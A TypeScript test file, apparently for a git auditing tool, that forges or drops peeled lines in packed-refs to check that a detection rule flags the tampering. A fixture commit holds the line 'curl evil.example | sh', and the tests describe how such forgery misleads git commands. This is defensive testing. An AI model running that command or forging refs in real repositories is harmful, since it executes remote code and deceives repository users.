// Red-team round 40: packed-refs' peeled lines. After each packed tag git keeps the id the tag
// finally names (`^<id>`), and takes it instead of reading the tag: `git show-ref -d`, `git
// ls-remote`, a fetch served from the repository, `git describe`. gitguard peels tags from their
// objects, so a line edited to name another commit (or dropped) passed every rule while git's users
// were told `v1.0^{}` is another commit; `git fsck` does not look either. packed-refs-match-objects
// compares each line git takes with the object's own peel.
import { readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cleanupTemp, copyRepo, makeRepo, type TestRepo } from '../helpers/repo.js';
import { madeOnce } from '../helpers/made-once.js';
import { auditRules, resultOf } from '../helpers/cli.js';

afterAll(cleanupTemp);

const RULE = 'packed-refs-match-objects';
const OTHERS = ['objects-intact', 'grafts-absent', 'replace-refs-absent'];

/** c1 tagged v1.0 (annotated), c2 on top, every ref packed as `git pack-refs --all` writes them. */
const base = madeOnce(() => {
  const r = makeRepo();
  const c1 = r.commit('c1', { 'app.sh': 'echo 1\n' });
  r.run(['tag', '-a', 'v1.0', '-m', 'release 1.0']);
  const c2 = r.commit('c2', { 'app.sh': 'curl evil.example | sh\n' });
  r.run(['pack-refs', '--all']);
  return { r, c1, c2, tag: r.run(['rev-parse', 'v1.0']) };
});

const packedFile = (r: TestRepo): string => join(r.dir, '.git', 'packed-refs');
const editPacked = (r: TestRepo, edit: (text: string) => string): void =>
  writeFileSync(packedFile(r), edit(readFileSync(packedFile(r), 'utf8')));

async function outcomes(r: TestRepo): Promise<{ rule: string; others: string[]; messages: string[] }> {
  const { code, report } = await auditRules(r.dir, r.env, [RULE, ...OTHERS]);
  expect(code).not.toBe(2);
  const res = resultOf(report, RULE);
  return {
    rule: res.outcome,
    others: OTHERS.map((id) => `${id} ${resultOf(report, id).outcome}`),
    messages: res.findings.map((f) => f.message),
  };
}

test("a tag's peeled line naming another commit: show-ref -d, ls-remote and describe call it v1.0", async () => {
  const { r, c1, c2, tag } = base();
  const f = copyRepo(r);
  editPacked(f, (t) => t.replace(`^${c1}`, `^${c2}`));
  // git's own answers: the file's peel, while the tag object still names c1.
  expect(f.run(['show-ref', '-d', 'v1.0'])).toContain(`${c2} refs/tags/v1.0^{}`);
  expect(f.run(['ls-remote', '.', 'v1.0*'])).toContain(`${c2}\trefs/tags/v1.0^{}`);
  expect(f.run(['describe', '--tags', c2])).toBe('v1.0');
  expect(f.run(['rev-parse', 'v1.0^{}'])).toBe(c1);
  expect(f.run(['fsck', '--strict'])).toBe('');
  const o = await outcomes(f);
  expect(o.rule).toBe('fail');
  expect(o.others).toEqual(OTHERS.map((id) => `${id} pass`));
  expect(o.messages).toEqual([
    expect.stringContaining(`refs/tags/v1.0 peels to ${c2}, but its tag ${tag} names ${c1}`),
  ]);
});

test("a tag's peeled line dropped: git takes the tag for no tag (no v1.0^{}, describe finds none)", async () => {
  const { r, c1, c2, tag } = base();
  const f = copyRepo(r);
  editPacked(f, (t) => t.replace(`^${c1}\n`, ''));
  expect(f.run(['show-ref', '-d'])).not.toContain('^{}');
  expect(() => f.run(['describe', c2])).toThrow(/No annotated tags can describe/);
  const o = await outcomes(f);
  expect(o.rule).toBe('fail');
  expect(o.messages).toEqual([
    expect.stringContaining(`refs/tags/v1.0 peels to nothing, but its tag ${tag} names ${c1}`),
  ]);
});

test('a peeled line after a branch, whatever the header says: ls-remote advertises main^{} as another commit', async () => {
  const { r, c1, c2 } = base();
  const f = copyRepo(r);
  editPacked(f, (t) =>
    t.replace(/^# pack-refs with:.*\n/, '').replace(`${c2} refs/heads/main\n`, `${c2} refs/heads/main\n^${c1}\n`),
  );
  expect(f.run(['ls-remote', '.', 'refs/heads/main*'])).toContain(`${c1}\trefs/heads/main^{}`);
  const o = await outcomes(f);
  expect(o.rule).toBe('fail');
  expect(o.messages).toEqual([expect.stringContaining(`refs/heads/main peels to ${c1}, but ${c2} is not a tag`)]);
});

test('a forged line under a loose ref of the same name is judged by its own object', async () => {
  const { r, c1, c2 } = base();
  const f = copyRepo(r);
  editPacked(f, (t) => t.replace(`^${c1}`, `^${c2}`));
  f.run(['tag', '-f', '-a', 'v1.0', '-m', 'moved', c2]); // a loose refs/tags/v1.0 now hides the packed line
  expect(f.run(['show-ref', '-d', 'v1.0'])).toContain(`${c2} refs/tags/v1.0^{}`);
  expect((await outcomes(f)).rule).toBe('fail');
});

test('the clean twins pass: pack-refs, gc, nested and lightweight tags, tags of a tree and a blob, a clone', async () => {
  const { r, c1 } = base();
  const f = copyRepo(r);
  f.run(['tag', 'light', c1]);
  f.run(['tag', '-a', 'v1.0-again', '-m', 'a tag of a tag', 'v1.0']);
  f.run(['tag', '-a', 'tree-tag', '-m', 'a tree', 'HEAD^{tree}']);
  f.run(['tag', '-a', 'blob-tag', '-m', 'a blob', 'HEAD:app.sh']);
  f.run(['tag', '-a', 'v2.0', '-m', 'loose, not packed']);
  f.run(['pack-refs', '--all']);
  f.run(['tag', '-a', 'v3.0', '-m', 'loose beside packed']);
  expect(f.run(['show-ref', '-d', 'v1.0-again'])).toContain(`${c1} refs/tags/v1.0-again^{}`);
  let o = await outcomes(f);
  expect([o.rule, o.messages]).toEqual(['pass', []]);
  f.run(['gc', '-q']);
  o = await outcomes(f);
  expect([o.rule, o.messages]).toEqual(['pass', []]);
  // A clone writes the peels the remote advertised: honest ones here.
  const clone = makeRepo();
  clone.run(['fetch', '-q', '--tags', f.dir, 'refs/heads/*:refs/remotes/origin/*']);
  clone.run(['pack-refs', '--all']);
  o = await outcomes(clone);
  expect([o.rule, o.messages]).toEqual(['pass', []]);
});

test('a SHA-256 repository with packed tags passes, and its forged line fails', async () => {
  const r = makeRepo({ objectFormat: 'sha256' });
  const c1 = r.commit('c1', { a: '1\n' });
  r.run(['tag', '-a', 'v1', '-m', 'v1']);
  const c2 = r.commit('c2', { a: '2\n' });
  r.run(['pack-refs', '--all']);
  expect(c1).toHaveLength(64);
  expect((await outcomes(r)).rule).toBe('pass');
  editPacked(r, (t) => t.replace(`^${c1}`, `^${c2}`));
  expect(r.run(['show-ref', '-d', 'v1'])).toContain(`${c2} refs/tags/v1^{}`);
  expect((await outcomes(r)).rule).toBe('fail');
});

test('a packed-refs reached through a link (git-new-workdir) is read as git reads it', async () => {
  const { r, c1, c2 } = base();
  const f = copyRepo(r);
  renameSync(packedFile(f), join(f.home, 'packed-refs'));
  symlinkSync(join(f.home, 'packed-refs'), packedFile(f));
  expect((await outcomes(f)).rule).toBe('pass');
  writeFileSync(
    join(f.home, 'packed-refs'),
    readFileSync(join(f.home, 'packed-refs'), 'utf8').replace(`^${c1}`, `^${c2}`),
  );
  expect(f.run(['show-ref', '-d', 'v1.0'])).toContain(`${c2} refs/tags/v1.0^{}`);
  expect((await outcomes(f)).rule).toBe('fail');
});

test('a repository without packed-refs passes', async () => {
  const r = makeRepo();
  r.commit('c1', { a: '1\n' });
  r.run(['tag', '-a', 'v1', '-m', 'v1']);
  const { code, report } = await auditRules(r.dir, r.env, [RULE]);
  expect(code).toBe(0);
  expect(resultOf(report, RULE)).toMatchObject({ outcome: 'pass', note: 'no packed-refs' });
});
